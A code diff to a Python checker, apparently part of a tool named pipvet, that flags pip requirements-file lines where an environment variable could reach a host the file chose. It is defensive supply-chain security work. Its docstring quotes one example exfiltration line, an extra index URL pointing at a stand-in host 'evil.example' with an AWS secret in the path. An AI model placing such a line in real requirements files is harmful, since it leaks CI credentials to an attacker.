@@ -6,10 +6,16 @@ and option lines too. That is how a team keeps an index token out of the file
 file can send a CI job's secret anywhere (``--extra-index-url https://evil.example/${AWS_SECRET}``):
 pip asks that host for packages while it resolves, before pipvet has vetted anything.
 
-So, in a file pipvet hands to pip, a variable is accepted only where its value cannot choose
-the host or travel to a host the file chose: the whole value of an option (the value is the
-user's), a token that is no URL (a path, a version), or the userinfo of a URL whose host a
-setting outside the files names (pip's configuration, ``PIP_*`` variables, the command line).
+So, in a file pipvet hands to pip, a line with a variable is accepted only when no value of it
+can reach a host the file chose. The line is judged as characters, not as pip's tokens (pip
+splits option lines shell-style, with quotes and backslashes, and accepts ``-fURL`` glued):
+- a line that names no address (no ``://``, no ``\\\\host`` or ``//host``) sends nothing: the
+  variable is a path, a version, or the whole of an option's value (``--index-url ${INDEX}``,
+  the user's own setting);
+- otherwise every variable must sit in the userinfo of a URL (``https://${TOKEN}@host/``)
+  whose host a setting outside the files names (pip's configuration, ``PIP_*`` variables, the
+  command line) or is one of the public hosts a credential may go to (PyPI, GitHub, GitLab,
+  Bitbucket: their owners, not a repository's, see it).
 Pure: text in, problems out.
 """
 
@@ -22,12 +28,20 @@ from pipvet.inputs.requirements_model import RequirementsFile
 
 __all__ = ["DEFAULT_HOSTS", "host_of", "unsafe_variables"]
 
-# Where pip goes with no configuration at all.
-DEFAULT_HOSTS = frozenset({"pypi.org", "files.pythonhosted.org"})
+# Where pip goes with no configuration, and the code hosts VCS requirements name
+# (git+https://${GITHUB_TOKEN}@github.com/org/repo.git).
+DEFAULT_HOSTS = frozenset(
+    {"pypi.org", "files.pythonhosted.org", "github.com", "gitlab.com", "bitbucket.org"}
+)
 
 _VARIABLE = re.compile(r"\$\{[A-Z0-9_]+\}")  # what pip expands (its own pattern)
-_WHOLE = re.compile(r"^\$\{[A-Z0-9_]+\}$")
 _URL = re.compile(r"^[A-Za-z][A-Za-z0-9+.-]*://([^/?#]*)(.*)$", re.DOTALL)
+# Every URL of a line, wherever it starts (glued to an option, quoted, escaped): its
+# authority runs to the first character that ends one.
+_AUTHORITY = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,31}://([^/?#\s\"'\\]*)")
+_TOKEN_END = re.compile(r"[\s\"']")
+# A network path on Windows (\\host\share, //host/share) is an address too.
+_NETWORK_PATH = re.compile(r"(^|[\s=\"'])(\\\\|//)")
 
 
 def host_of(url: str) -> str | None:
@@ -41,29 +55,34 @@ def host_of(url: str) -> str | None:
     return host.partition(":")[0].lower() or None
 
 
-def _problem(token: str, trusted: Collection[str]) -> str | None:
-    """Why pip could send a variable of ``token`` to a host the file chose, else None."""
-    value = token.partition("=")[2] if token.startswith("-") and "=" in token else token
-    if _VARIABLE.search(value) is None or _WHOLE.match(value):
-        return None  # the whole value is the user's own setting
-    found = _URL.match(value)
-    if found is None:
-        if ":" not in value:
-            return None  # a path or a version: pip sends it nowhere
-        return "the variable is part of a value pip may read as an address"
-    if value[:7].lower() == "file://":
-        return None  # a local path: pip reads it, and sends it nowhere
-    authority, rest = found.group(1), found.group(2)
-    if _VARIABLE.search(authority.rpartition("@")[2]):
-        return "the variable chooses the host pip connects to"
-    host = host_of(value)
-    if _VARIABLE.search(rest):
-        return f"pip would send the variable's value to {host} in the URL's path"
-    if host not in trusted:
-        return (
-            f"pip would send the variable's value to {host} as a credential, and no setting "
-            "outside the requirements files names that host"
-        )
+def _problem(line: str, trusted: Collection[str]) -> str | None:
+    """Why pip could send a variable of ``line`` to a host the file chose, else None."""
+    spans = [m.span() for m in _VARIABLE.finditer(line)]
+    if "://" not in line and not _NETWORK_PATH.search(line):
+        return None  # no address at all: the values go nowhere
+    allowed: list[tuple[int, int]] = []  # userinfo spans of URLs to trusted hosts
+    for url in _AUTHORITY.finditer(line):
+        authority = url.group(1)
+        if url.group().lower().endswith("file://" + authority.lower()):
+            # file:// names a local file: pip reads it and sends it nowhere.
+            rest = _TOKEN_END.search(line, url.start(1))
+            allowed.append((url.start(1), rest.start() if rest else len(line)))
+            continue
+        userinfo, at, host = authority.rpartition("@")
+        if _VARIABLE.search(host):
+            return "a variable chooses the host pip connects to"
+        name = host_of("x://" + host)
+        if at and name in trusted:
+            start = url.start(1)
+            allowed.append((start, start + len(userinfo)))
+        elif at and _VARIABLE.search(userinfo):
+            return (
+                f"pip would send a variable's value to {name} as a credential, and no setting "
+                "outside the requirements files names that host"
+            )
+    for begin, end in spans:
+        if not any(a <= begin and end <= b for a, b in allowed):
+            return "pip would send a variable's value as part of an address the file chose"
     return None
 
 
@@ -79,12 +98,8 @@ def unsafe_variables(parsed: RequirementsFile, trusted_hosts: Iterable[str]) -> 
     for location, raw in sorted(unique, key=lambda item: (item[0].path, item[0].line or 0)):
         if _VARIABLE.search(raw) is None:
             continue
-        for token in raw.split():
-            if _VARIABLE.search(token) is None:
-                continue
-            why = _problem(token, trusted)
-            if why is not None:
-                names = ", ".join(dict.fromkeys(_VARIABLE.findall(token)))
-                problems.append(f"{location}: '{raw.strip()}': {why} ({names})")
-                break
+        why = _problem(raw, trusted)
+        if why is not None:
+            names = ", ".join(dict.fromkeys(_VARIABLE.findall(raw)))
+            problems.append(f"{location}: '{raw.strip()}': {why} ({names})")
     return tuple(problems)
